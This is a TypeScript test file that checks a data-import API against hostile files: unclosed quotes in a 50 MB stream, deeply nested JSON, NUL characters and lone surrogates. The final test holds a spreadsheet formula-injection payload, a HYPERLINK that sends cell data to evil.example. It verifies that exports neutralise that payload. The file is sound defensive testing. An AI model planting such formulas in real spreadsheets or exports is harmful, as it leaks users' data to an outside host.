/**
 * Files made to hurt: a quote left open in 50 MB, records nested a hundred deep, NUL in a field.
 * Each is a rejected line or a failed import (400) with its reason; none is a 500, and what an
 * import holds in memory stays bounded by MAX_RECORD whatever the file.
 */
import { describe, expect, it } from 'vitest';
import { MAX_RECORD } from './records.ts';
import { csv, importKit } from './testing.ts';

const kit = importKit();
/** Imports are the admin's: every request of this file is signed in as admin. */
const admin = () => kit.t.as('admin');

const post = async (query: string, body: string | Uint8Array, headers: Record<string, string> = {}) => {
  const response = await admin().request(`/api/v1/imports?${query}`, { method: 'POST', body: body as BodyInit, headers });
  const type = response.headers.get('content-type') ?? '';
  return { status: response.status, headers: response.headers, body: type.includes('json') ? await response.json() : await response.text() };
};

/** A body made as it is read, `total` bytes in 64 kB chunks: the test itself holds one chunk. */
function generated(head: string, line: string, total: number) {
  const chunk = Buffer.from(line.repeat(Math.ceil((64 * 1024) / line.length)));
  let sent = 0;
  const stream = new ReadableStream<Uint8Array>({
    pull(controller) {
      if (sent >= total) return controller.close();
      const next = sent === 0 ? Buffer.concat([Buffer.from(head), chunk]) : chunk;
      sent += next.length;
      controller.enqueue(next);
    },
  });
  return { stream, sent: () => sent };
}

const postStream = (query: string, body: ReadableStream<Uint8Array>) =>
  admin().request(`/api/v1/imports?${query}`, { method: 'POST', body, duplex: 'half' } as RequestInit);

describe('a CSV quote that is never closed', () => {
  it.each([
    ['read from its bytes (UTF-8)', 'utf-8'],
    ['decoded as text (GB18030)', 'gb18030'],
  ])('fails a 50 MB import at once, holding about 1 MB, %s', async (_, encoding) => {
    const { inside } = await kit.places();
    const p = inside[0];
    const head = `key,category,lon,lat,name\nopen-1,RP01,${p.lon},${p.lat},"张三\n`;
    const body = generated(head, `open-x,RP01,${p.lon},${p.lat},李四\n`, 50 * 1024 * 1024);
    global.gc?.();
    const rss = process.memoryUsage().rss;
    const started = performance.now();
    const response = await postStream(`format=csv&encoding=${encoding}`, body.stream);
    const seconds = (performance.now() - started) / 1000;
    const grown = process.memoryUsage().rss - rss;
    expect(response.status).toBe(400);
    const problem = await response.json();
    expect(problem.detail).toMatch(/no end of record in 1 MB after line 2: a quote \("\) is probably not closed$/);
    // The reader stopped near the bound: the rest of the 50 MB was never read.
    expect(body.sent()).toBeLessThan(MAX_RECORD + 1024 * 1024);
    expect(seconds).toBeLessThan(5);
    expect(grown, `rss grew by ${(grown / 1048576).toFixed(0)} MB`).toBeLessThan(200 * 1024 * 1024);
    const job = (await kit.t.getJson(problem.job, 'admin')).body;
    expect(job).toMatchObject({ status: 'failed', error: expect.stringMatching(/a quote \("\) is probably not closed/) });
  });

  it('reads a long quoted field under the bound, line breaks and quotes in it', async () => {
    const { inside } = await kit.places();
    const p = inside[1];
    const note = '第一行\n"引号" 和 , 逗号\n'.repeat(20_000); // ~0.6 MB
    const text = csv([['key', 'category', 'lon', 'lat', 'note'], ['long-1', 'RP01', p.lon, p.lat, `"${note.replaceAll('"', '""')}"`], ['long-2', 'RP01', p.lon, p.lat, '短']]);
    const { status, body } = await post('format=csv', text);
    expect(status).toBe(201);
    expect(body.counts).toMatchObject({ read: 2, inserted: 2, rejected: 0 });
    const [row] = await kit.entities('long-1');
    expect(row.attrs.note).toBe(note.trim());
  });

  it('fails an NDJSON file without line breaks after 1 MB', async () => {
    const body = generated('{"a":"', 'x'.repeat(1000), 20 * 1024 * 1024);
    const response = await postStream('format=ndjson&category=RP01', body.stream);
    expect(response.status).toBe(400);
    expect((await response.json()).detail).toMatch(/no end of record in 1 MB after line 1: the file has no line breaks$/);
    expect(body.sent()).toBeLessThan(MAX_RECORD + 1024 * 1024);
  });
});

describe('records nested too deep', () => {
  it('rejects an NDJSON line nested deeper than 32 levels, with its line, and reads the others', async () => {
    const { inside } = await kit.places();
    const p = inside[2];
    const deep = `{"id":"deep-2","lon":${p.lon},"lat":${p.lat},"x":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
    const lines = [JSON.stringify({ id: 'deep-1', lon: p.lon, lat: p.lat }), deep, JSON.stringify({ id: 'deep-3', lon: p.lon, lat: p.lat, x: [[[1]]] })];
    const { status, body } = await post('format=ndjson&category=RP01', lines.join('\n'));
    expect(status).toBe(201);
    expect(body.counts).toMatchObject({ read: 3, inserted: 2, rejected: 1 });
    expect(body.rejections.first).toEqual([{ line: 2, reason: 'nested deeper than 32 levels of arrays and objects', raw: expect.stringMatching(/^\{"id":"deep-2"/) }]);
  });

  it('fails a GeoJSON file whose feature is nested deeper than 32 levels, or larger than 1 MB', async () => {
    const { inside } = await kit.places();
    const p = inside[2];
    const feature = (properties: string) => `{"type":"Feature","geometry":{"type":"Point","coordinates":[${p.lon},${p.lat}]},"properties":${properties}}`;
    const collection = (...features: string[]) => `{"type":"FeatureCollection","features":[${features.join(',')}]}`;
    const deep = await post('format=geojson&category=RP01', collection(feature('{}'), feature(`{"x":${'['.repeat(50)}${']'.repeat(50)}}`)));
    expect(deep.status).toBe(400);
    expect(deep.body.detail).toMatch(/: feature 2 is nested deeper than 32 levels of arrays and objects$/);
    const large = await post('format=geojson&category=RP01', collection(feature(`{"x":"${'x'.repeat(MAX_RECORD + 1)}"}`)));
    expect(large.status).toBe(400);
    expect(large.body.detail).toMatch(/: feature 1 is larger than 1 MB$/);
    const fine = await post('format=geojson&category=RP01', collection(feature('{"x":[[[[1]]]]}')));
    expect(fine.status).toBe(201);
  });
});

describe('text the database cannot store', () => {
  it('rejects CSV rows and JSON records holding NUL or a lone surrogate, keeping the rest', async () => {
    const { inside } = await kit.places();
    const p = inside[3];
    const text = csv([['key', 'category', 'lon', 'lat', 'name'], ['nul-1', 'RP01', p.lon, p.lat, '张三'], ['nul-2', 'RP01', p.lon, p.lat, '李\u0000四']]);
    const fromCsv = await post('format=csv', text);
    expect(fromCsv.status).toBe(201);
    expect(fromCsv.body.counts).toMatchObject({ inserted: 1, rejected: 1 });
    expect(fromCsv.body.rejections.first).toEqual([{ line: 3, reason: 'contains a NUL character (U+0000), which cannot be stored', raw: `nul-2,RP01,${p.lon},${p.lat},李\u2400四` }]);

    const lines = [
      `{"id":"nul-3","lon":${p.lon},"lat":${p.lat},"name":"a\\u0000"}`,
      `{"id":"nul-4","lon":${p.lon},"lat":${p.lat},"tags":["\\ud800"]}`,
      `{"id":"nul-5","lon":${p.lon},"lat":${p.lat},"k\\u0000":1}`,
      `{"id":"nul-6","lon":${p.lon},"lat":${p.lat}}`,
    ];
    const fromJson = await post('format=ndjson&category=RP01', lines.join('\n'));
    expect(fromJson.status).toBe(201);
    expect(fromJson.body.counts).toMatchObject({ inserted: 1, rejected: 3 });
    expect(fromJson.body.rejections.first.map((r: any) => r.reason)).toEqual([
      'name contains a NUL character (U+0000), which cannot be stored',
      'tags.0 contains a lone surrogate (not valid Unicode), which cannot be stored',
      'a field name contains a NUL character (U+0000), which cannot be stored',
    ]);
    const report = await (await admin().request(fromJson.body.rejections.csv)).text();
    expect(report).toContain('nul-3');
  });

  it('fails a CSV file whose header holds NUL', async () => {
    const { status, body } = await post('format=csv&category=RP01', 'key,lon,la\u0000t\n1,118.6,32.1\n');
    expect(status).toBe(400);
    expect(body.detail).toMatch(/the CSV header contains a NUL character \(U\+0000\)$/);
  });
});

describe('formulas in cells', () => {
  it('come back as text in the entity export and the rejections report', async () => {
    const { inside } = await kit.places();
    const p = inside[4];
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
    const text = csv([
      ['key', 'category', 'lon', 'lat', 'note'],
      ['formula-1', 'LE02', p.lon, p.lat, `"${formula.replaceAll('"', '""')}"`],
      ['=1+1', 'LE02', 'x', p.lat, 'rejected'],
    ]);
    const { body } = await post('format=csv', text);
    expect(body.counts).toMatchObject({ inserted: 1, rejected: 1 });
    const [row] = await kit.entities('formula-1');
    expect(row.attrs.note).toBe(formula);
    const exported = await (await admin().request(`/api/v1/entities?category=LE02&grid=${p.grid}&format=csv`)).text();
    expect(exported).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`);
    const report = await (await admin().request(body.rejections.csv)).text();
    expect(report).toContain(`,"'=1+1,LE02,x,${p.lat},rejected"\r\n`);
  });
});
